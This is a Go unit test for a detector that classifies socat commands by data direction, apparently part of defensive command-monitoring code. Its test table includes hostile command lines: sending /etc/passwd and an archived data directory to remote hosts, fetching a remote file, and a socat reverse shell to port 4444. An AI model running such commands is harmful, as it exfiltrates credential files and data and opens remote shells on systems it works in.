package detect

import "testing"

// TestSocatOneWay: socat -u sends, grabs or fetches depending on which of
// its two addresses is the network one.
func TestSocatOneWay(t *testing.T) {
	for _, c := range []struct {
		cmd  string
		want socatWay
	}{
		{"tar czf - -C /srv/kb data conf | socat -u - TCP:127.0.0.1:9002", socatSend},
		{"socat -u FILE:/etc/passwd TCP:203.0.113.9:80", socatSend},
		{"/usr/bin/timeout 3 /usr/bin/socat -T 2 -u TCP:127.0.0.1:22 STDOUT", socatGrab},
		{"socat -u TCP:203.0.113.9:8000 OPEN:/tmp/x,creat", socatFetch},
		{"socat -U TCP:203.0.113.9:80 -", socatSend},   // -U: second to first
		{"socat tcp:10.0.0.1:4444 exec:sh", socatNone}, // both ways: a channel
		{"echo socat", socatNone},
	} {
		if got := socatOneWay(c.cmd); got != c.want {
			t.Errorf("socatOneWay(%q) = %d, want %d", c.cmd, got, c.want)
		}
	}
}
